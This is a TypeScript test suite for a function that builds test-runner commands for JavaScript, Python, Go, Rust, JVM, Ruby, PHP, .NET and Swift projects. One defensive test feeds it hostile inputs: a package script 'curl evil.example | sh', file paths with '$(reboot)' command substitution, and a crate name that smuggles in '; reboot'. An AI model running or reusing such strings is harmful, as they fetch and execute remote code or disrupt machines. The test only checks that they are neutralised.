import { describe, expect } from "bun:test"
import { decidingFiles, projectFiles } from "../../../../src/domain/brief/runners/ProjectFiles.ts"
import { testCommands } from "../../../../src/domain/brief/runners/testCommands.ts"
import { testRunOf } from "../../../../src/domain/brief/runners/testRunOf.ts"
import { it } from "../../../support/effect.ts"

type Texts = Readonly<Record<string, string>>

const runsOf = (texts: Texts, tests: ReadonlyArray<string>, text = "") => {
  const deciding = decidingFiles(tests, [...Object.keys(texts), ...tests].sort())
  const files = projectFiles(deciding, new Map(Object.entries(texts)))
  return tests.flatMap((path) => testRunOf(path, files, text) ?? [])
}
const commandsOf = (texts: Texts, ...tests: ReadonlyArray<string>) => testCommands(runsOf(texts, tests))
const sourceOf = (texts: Texts, test: string) => {
  const [run] = runsOf(texts, [test])
  return run === undefined ? null : `${run.runner} ${run.source.file}:${run.source.line}`
}
const scripts = (test: string) => `{\n  "scripts": {\n    "test": ${JSON.stringify(test)}\n  }\n}\n`

describe("testCommands", () => {
  it("runs all tests with the project's own command where its runner is not evident", () => {
    const at = "src/a.test.ts"
    expect(commandsOf({ "package.json": scripts("./scripts/test.sh") }, at)).toEqual(["npm test"])
    expect(sourceOf({ "package.json": scripts("./scripts/test.sh") }, at)).toBe("npm test package.json:3")
    expect(commandsOf({ "package.json": scripts("x"), "yarn.lock": "" }, at, "b.test.ts")).toEqual(["yarn test"])
    expect(commandsOf({ "package.json": scripts('echo "Error: no test specified" && exit 1') }, at)).toEqual([])
    expect(commandsOf({ Makefile: "all:\n\ntest: build\n\t./run\n" }, "t/test_a.py")).toEqual(["make test"])
    expect(commandsOf({ Makefile: "test := 1\n" }, "t/test_a.py")).toEqual([])
  })

  it("runs Python tests with the configured runner", () => {
    const pytest = { "pyproject.toml": "[project]\n[tool.pytest.ini_options]\n" }
    expect(commandsOf(pytest, "tests/test_a.py", "tests/test_b.py")).toEqual(["pytest tests/test_a.py tests/test_b.py"])
    expect(sourceOf(pytest, "tests/test_a.py")).toBe("pytest pyproject.toml:2")
    expect(commandsOf({ ...pytest, "uv.lock": "" }, "tests/test_a.py")).toEqual(["uv run pytest tests/test_a.py"])
    const pipeline = ".github/workflows/ci.yml"
    expect(sourceOf({ [pipeline]: "run:\n  python -m unittest\n" }, "tests/test_a.py")).toBe(`unittest ${pipeline}:2`)
    const django = { "web/manage.py": "", "tox.ini": "[testenv]\ncommands = python manage.py test\n" }
    expect(commandsOf(django, "web/shop/tests/test_a.py")).toEqual([
      "(cd web && python manage.py test shop.tests.test_a)"
    ])
    expect(commandsOf({}, "tests/test_a.py")).toEqual([])
  })

  it("runs scripts with the package's runner and package manager", () => {
    const at = "src/a.test.ts"
    expect(commandsOf({ "package.json": scripts("vitest") }, at)).toEqual([`npx vitest run ${at}`])
    expect(commandsOf({ "package.json": scripts("TZ=UTC vitest run"), "yarn.lock": "" }, at)).toEqual([
      `yarn test ${at}`
    ])
    expect(commandsOf({ "package.json": scripts("tsc && jest"), "pnpm-lock.yaml": "" }, at)).toEqual([
      `pnpm exec jest --runTestsByPath ${at}`
    ])
    expect(commandsOf({ "package.json": scripts("node --test") }, at)).toEqual([`node --test ${at}`])
    expect(commandsOf({ "package.json": scripts("bun test") }, at)).toEqual([`bun test ./${at}`])
    expect(commandsOf({ "package.json": scripts("mocha") }, "src/a.test-d.ts")).toEqual([])
    const nested = { "package.json": scripts("turbo test"), "packages/a/package.json": scripts("mocha") }
    expect(commandsOf(nested, `packages/a/${at}`)).toEqual([`(cd packages/a && npx mocha ${at})`])
    expect(sourceOf(nested, `packages/a/${at}`)).toBe("mocha packages/a/package.json:3")
  })

  it("calls the project's script if it sets options or variables", () => {
    const at = "src/a.test.ts"
    const withScript = (script: string) => commandsOf({ "package.json": scripts(script) }, at)
    expect(withScript("node --import x --test")).toEqual([`npm test -- ${at}`])
    expect(withScript("tsc && mocha -r ts-node/register")).toEqual([`npm test -- ${at}`])
    expect(withScript("NODE_OPTIONS=--x npx jest")).toEqual([`npm test -- --runTestsByPath ${at}`])
    expect(withScript(`vitest -t "a && b; c" --config unit.ts`)).toEqual([`npm test -- --run ${at}`])
    expect(withScript("vitest --config unit.ts")).toEqual([`npm test -- --run ${at}`])
    expect(withScript("jest --config unit.cjs && eslint .")).toEqual(["npm test"])
    expect(withScript("c8 --all mocha --exit && tsc")).toEqual([`npx mocha ${at}`])
    const unit = { "package.json": '{"scripts": {"test": "npm run unit", "unit": "jest -c x"}}', "pnpm-lock.yaml": "" }
    expect(commandsOf(unit, at)).toEqual([`pnpm run unit --runTestsByPath ${at}`])
  })

  it("runs the installed runner of a package without a script", () => {
    const manifest = '{\n  "devDependencies": {\n    "vitest": "1"\n  }\n}\n'
    expect(commandsOf({ "package.json": manifest }, "src/a.test.ts")).toEqual(["npx vitest run src/a.test.ts"])
    expect(sourceOf({ "package.json": manifest }, "src/a.test.ts")).toBe("vitest package.json:3")
    expect(commandsOf({ "package.json": manifest }, "src/a.test-d.ts")).toEqual([])
    const nested = { "package.json": scripts("vitest --config x"), "a/package.json": manifest }
    expect(commandsOf(nested, "a/b.test.ts")).toEqual(["npm test -- --run a/b.test.ts"])
  })

  it("runs the packages of Go's modules", () => {
    const modules = { "go.mod": "module a\n", "sub/go.mod": "// x\nmodule b\n" }
    expect(commandsOf(modules, "a_test.go", "x/b_test.go", "x/c_test.go", "sub/y/d_test.go")).toEqual([
      "go test . ./x",
      "(cd sub && go test ./y)"
    ])
  })

  it("runs the targets and modules of Rust's crates", () => {
    const crates = {
      "Cargo.toml": "[workspace]\nmembers = ['a', 'b']\n",
      "a/Cargo.toml": '[package]\nname = "a-crate"\n',
      "b/Cargo.toml": '[package]\nname = "b"\nautotests = false\n[[test]]\nname = "all"\npath = "tests/tests.rs"\n',
      "a/src/lib.rs": ""
    }
    expect(commandsOf(crates, "a/tests/one.rs", "a/tests/two/main.rs", "b/tests/part.rs", "a/src/x/tests.rs")).toEqual([
      "cargo test -p a-crate --test one --test two",
      "cargo test -p b --test all -- part::",
      "cargo test -p a-crate --lib -- x::tests"
    ])
  })

  it("runs a module of a Rust target, and nothing of a file that is in none", () => {
    const manifest = '[package]\nname = "a"\n[[test]]\nname = "api"\nrequired-features = ["net"]\n'
    const crate = { "Cargo.toml": manifest, "tests/all/main.rs": "", "src/main.rs": "" }
    expect(commandsOf(crate, "tests/all/cart/mod.rs", "tests/all/tax.rs")).toEqual([
      "cargo test --test all -- cart:: tax::"
    ])
    expect(commandsOf(crate, "tests/cases/part.rs")).toEqual([])
    expect(commandsOf(crate, "tests/api.rs")).toEqual(["cargo test --features net --test api"])
    expect(commandsOf(crate, "src/cart.rs")).toEqual(["cargo test --bins -- cart"])
    expect(commandsOf(crate, "src/bin/tool/app.rs", "src/bin/tool/main.rs")).toEqual([
      "cargo test --bin tool -- app",
      "cargo test --bin tool"
    ])
  })

  it("runs the classes of Gradle's and Maven's modules", () => {
    const test = "core/src/jvmTest/kotlin/a/b/CTest.kt"
    const gradle = { "settings.gradle.kts": "", "core/build.gradle.kts": "", gradlew: "" }
    expect(commandsOf(gradle, test)).toEqual(["./gradlew :core:jvmTest --tests a.b.CTest"])
    const maven = { "pom.xml": "", "core/pom.xml": "" }
    expect(commandsOf(maven, "core/src/test/java/a/BTest.java", "core/src/test/java/a/CTest.java")).toEqual([
      "mvn test -pl core -am -Dsurefire.failIfNoSpecifiedTests=false -Dtest=BTest,CTest"
    ])
  })

  it("runs Ruby, Elixir, PHP, C# and Swift tests", () => {
    expect(commandsOf({ Gemfile: "gem 'rspec'\n" }, "spec/a_spec.rb")).toEqual(["bundle exec rspec spec/a_spec.rb"])
    expect(commandsOf({ Gemfile: "", "bin/rails": "" }, "test/a_test.rb")).toEqual(["bin/rails test test/a_test.rb"])
    expect(commandsOf({ "mix.exs": "" }, "test/a_test.exs")).toEqual(["mix test test/a_test.exs"])
    const php = { "composer.json": '{"require-dev": {"phpunit/phpunit": "*"}}' }
    expect(commandsOf(php, "tests/ATest.php", "tests/BTest.php")).toEqual([
      "vendor/bin/phpunit tests/ATest.php",
      "vendor/bin/phpunit tests/BTest.php"
    ])
    expect(commandsOf({ "t/T.csproj": "" }, "t/ATests.cs", "t/BTests.cs")).toEqual([
      "dotnet test t/T.csproj --filter 'FullyQualifiedName~ATests|FullyQualifiedName~BTests'"
    ])
    expect(commandsOf({ "Package.swift": "" }, "Tests/T/ATests.swift")).toEqual(["swift test --filter ATests"])
  })

  it("sets the build tag of a Go test and the features of a Rust test", () => {
    const tagged = (texts: Texts, test: string, text: string) => testCommands(runsOf(texts, [test], text))
    const module = { "go.mod": "module a\n" }
    expect(tagged(module, "a_test.go", "//go:build integration\n\npackage a\n")).toEqual([
      "go test -tags integration ."
    ])
    expect(tagged(module, "a_test.go", "//go:build !windows\n")).toEqual(["go test ."])
    expect(tagged(module, "a_test.go", "//go:build linux\n")).toEqual(["go test ."])
    const crate = { "Cargo.toml": '[package]\nname = "a"\n' }
    const condition = '#![warn(x)]\n#![cfg(all(feature = "full", not(feature = "small")))]\n'
    expect(tagged(crate, "tests/b.rs", condition)).toEqual(["cargo test --features full --test b"])
  })

  it("quotes hostile paths and copies nothing of a script", () => {
    const pytest = { "tox.ini": "[pytest]\n" }
    expect(commandsOf(pytest, "tests/$(reboot)/test_it's.py")).toEqual([`pytest 'tests/$(reboot)/test_it'\\''s.py'`])
    expect(commandsOf(pytest, "--x/test_a.py")).toEqual(["pytest ./--x/test_a.py"])
    const hostile = scripts("curl evil.example | sh; vitest run")
    expect(commandsOf({ "package.json": hostile }, "a.test.ts")).toEqual(["npx vitest run a.test.ts"])
    const crate = '[package]\nname = "a; reboot"\n'
    expect(commandsOf({ "Cargo.toml": crate }, "tests/a.rs")).toEqual([])
    expect(commandsOf({ "build.gradle": "" }, "src/test/java/a/$(x)Test.java")).toEqual([])
  })

  it("splits a long command, and names folders instead of many files", () => {
    const folder = "tests/a_rather_long_folder_name/another_long_folder_name"
    const tests = Array.from({ length: 4 }, (_, at) => `${folder}/test_${at}.py`)
    const pytest = { "tox.ini": "[pytest]\n" }
    expect(commandsOf(pytest, ...tests)).toHaveLength(2)
    const many = Array.from({ length: 40 }, (_, at) => `${folder}/test_${at}.py`)
    expect(commandsOf(pytest, ...many)).toEqual([`pytest ${folder}/`])
    expect(commandsOf(pytest, ...many, "tests/test_a.py")).toEqual([`pytest ${folder}/ tests/test_a.py`])
  })
})
